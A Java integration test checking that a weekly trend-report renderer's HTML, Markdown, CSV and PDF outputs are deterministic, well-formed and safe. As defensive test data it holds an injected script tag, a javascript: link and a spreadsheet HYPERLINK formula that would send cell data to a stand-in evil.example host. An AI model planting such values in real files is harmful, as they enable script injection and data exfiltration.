package io.bellwether.desk.report.format;

import static org.assertj.core.api.Assertions.assertThat;

import io.bellwether.desk.report.StoreWithWeek;
import io.bellwether.desk.report.WeeklyReport;
import io.bellwether.desk.report.document.DeskLinks;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import org.apache.pdfbox.Loader;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.interactive.documentnavigation.outline.PDOutlineItem;
import org.apache.pdfbox.text.PDFTextStripper;
import org.apache.pdfbox.text.TextPosition;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;

/** Every format of the sample week's report, over a real store; they stay under {@code target/reports} to be looked at. */
class ReportRenderingIT {

    private static final Path KEPT = Path.of("target", "reports");
    private static final DeskLinks LINKS = DeskLinks.at("http://127.0.0.1:8080");
    /** In points: paper.css leaves at least 18 mm. */
    private static final double MARGIN = 50;

    private static StoreWithWeek store;
    private static WeeklyReport report;

    @BeforeAll
    static void start(@TempDir Path directory) throws IOException {
        store = StoreWithWeek.start(directory);
        report = store.report();
        Files.createDirectories(KEPT);
        for (WeeklyFormat format : WeeklyFormat.values()) {
            Files.write(KEPT.resolve("2026-W03." + format.ending()), bytes(format));
        }
    }

    @AfterAll
    static void stop() {
        store.close();
    }

    private static byte[] bytes(WeeklyFormat format) {
        return new ReportRendering().render(report, format, LINKS);
    }

    private static String text(WeeklyFormat format) {
        return new String(bytes(format), StandardCharsets.UTF_8);
    }

    @ParameterizedTest
    @EnumSource
    void theSameStoreGivesTheSameBytes(WeeklyFormat format) {
        assertThat(new ReportRendering().render(store.report(), format, LINKS)).isEqualTo(bytes(format));
    }

    @Test
    void htmlHoldsNothingThatActsOrLoads() {
        Document page = Jsoup.parse(text(WeeklyFormat.HTML));

        assertThat(page.select("script, img, iframe, form, object, embed, link, base, [style], [src]"))
                .isEmpty();
        assertThat(page.select("*").stream()
                        .flatMap(element -> element.attributes().asList().stream())
                        .filter(attribute -> attribute.getKey().startsWith("on")))
                .isEmpty();
        assertThat(page.select("a").eachAttr("href"))
                .isNotEmpty()
                .allMatch(href -> href.startsWith("http://127.0.0.1:8080/"));
        assertThat(page.select("meta[http-equiv=Content-Security-Policy]").attr("content"))
                .startsWith("default-src 'none'; style-src 'sha256-");
        assertThat(page.text()).contains("<script>document.title='owned'</script>");
    }

    @Test
    void everyCountLeadsToItsArticles() {
        Document page = Jsoup.parse(text(WeeklyFormat.HTML));
        for (Element row : page.select("#themes tbody tr, #stories tbody tr")) {
            assertThat(row.select("td").get(1).select("a").attr("href")).containsAnyOf("/search?theme=", "/stories/");
        }
        assertThat(page.select("#findings a[href*=/search]")).isNotEmpty();
    }

    @Test
    void findingsAreWordsOfTheFigures() {
        assertThat(Jsoup.parse(text(WeeklyFormat.HTML)).select("#findings li").eachText())
                .anySatisfy(
                        line -> assertThat(line)
                                .matches(
                                        "Data privacy and national security bans rose: it had \\d+ independent stories, [\\d.]+ times the"
                                                + " 6\\.\\d to be expected of what was observed \\(chance (under )?1 in [\\d,]+\\)\\."))
                .anySatisfy(line -> assertThat(line)
                        .startsWith(
                                "Open-source strategy and the setting of standards fell: it had no story, none of the"))
                .anySatisfy(line -> assertThat(line).contains("by 8 independent sources"))
                .anySatisfy(line -> assertThat(line).contains("Kestrel Labs"))
                .anySatisfy(line -> assertThat(line).contains("In 3 of 168 hours nothing was observed"));
    }

    @Test
    void noDrawingIsEmpty() {
        List<Element> drawings = Jsoup.parse(text(WeeklyFormat.HTML)).select("svg");

        assertThat(drawings).hasSize(8 + 9);
        assertThat(drawings)
                .allMatch(drawing -> drawing.select("rect").size() >= 3
                        && !drawing.attr("aria-label").isBlank());
    }

    @Test
    void markdownShowsHostileTitlesAsText() {
        String markdown = text(WeeklyFormat.MD);

        assertThat(markdown)
                .contains("\\<script\\>", "\\[chips\\](javascript:alert(1))")
                .doesNotContainPattern("(?<!\\\\)<(script|img)")
                .doesNotContain("![", "\u202E", "\u2066", "\u200F")
                .containsPattern(
                        "\\| \\*\\*\\[Data privacy and national security bans]\\(http://127.0.0.1:8080/themes/data-privacy\\)\\*\\* \\|");
        assertThat(markdown.lines().filter(line -> line.startsWith("|"))).allMatch(line -> line.endsWith(" |"));
    }

    @Test
    void csvHoldsNoFormulaAndAsManyCellsInEveryLine() {
        String csv = text(WeeklyFormat.CSV);

        assertThat(csv)
                .startsWith("week,zone,section,id,name,measure,value,link\r\n")
                .contains("\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"chips\"\")\"")
                .contains("2026-W03,Europe/Warsaw,theme,open-models,")
                .doesNotContain("\u202E", "\u0007");
        assertThat(csv.lines()
                        .map(line -> line.replaceAll("\"(?:[^\"]|\"\")*\"", "").split(",", -1).length))
                .containsOnly(8);
    }

    @Test
    void pdfKeepsEveryLetterWithinItsMargins() throws IOException {
        try (PDDocument pdf = Loader.loadPDF(bytes(WeeklyFormat.PDF))) {
            List<TextPosition> letters = letters(pdf);
            double width = pdf.getPage(0).getMediaBox().getWidth();

            assertThat(letters).hasSizeGreaterThan(3_000);
            assertThat(letters)
                    .filteredOn(letter -> letter.getXDirAdj() < MARGIN
                            || letter.getXDirAdj() + letter.getWidthDirAdj() > width - MARGIN)
                    .extracting(TextPosition::getUnicode)
                    .isEmpty();
        }
    }

    private static List<TextPosition> letters(PDDocument pdf) throws IOException {
        List<TextPosition> letters = new ArrayList<>();
        new PDFTextStripper() {
            @Override
            protected void processTextPosition(TextPosition letter) {
                letters.add(letter);
            }
        }.getText(pdf);
        return letters;
    }

    @Test
    void pdfHasBookmarksPageNumbersLinksAndEmbeddedFonts() throws IOException {
        try (PDDocument pdf = Loader.loadPDF(bytes(WeeklyFormat.PDF))) {
            String text = new PDFTextStripper().getText(pdf);
            List<String> bookmarks = new ArrayList<>();
            for (PDOutlineItem item :
                    pdf.getDocumentCatalog().getDocumentOutline().children()) {
                bookmarks.add(item.getTitle());
            }

            assertThat(bookmarks)
                    .startsWith("The week in short", "Themes against what is usual")
                    .hasSize(8);
            assertThat(text)
                    .contains(
                            "Page 1 of " + pdf.getNumberOfPages(),
                            "Page %1$d of %1$d".formatted(pdf.getNumberOfPages()))
                    .contains("Китай смягчает", "Αθήνα", "▯▯▯");
            assertThat(pdf.getPage(0).getAnnotations()).hasSizeGreaterThan(10);
            assertThat(pdf.getDocumentInformation().getTitle()).isEqualTo("Weekly trend report: week 3 of 2026");
            for (var name : pdf.getPage(0).getResources().getFontNames()) {
                assertThat(pdf.getPage(0).getResources().getFont(name).isEmbedded())
                        .isTrue();
            }
        }
    }
}
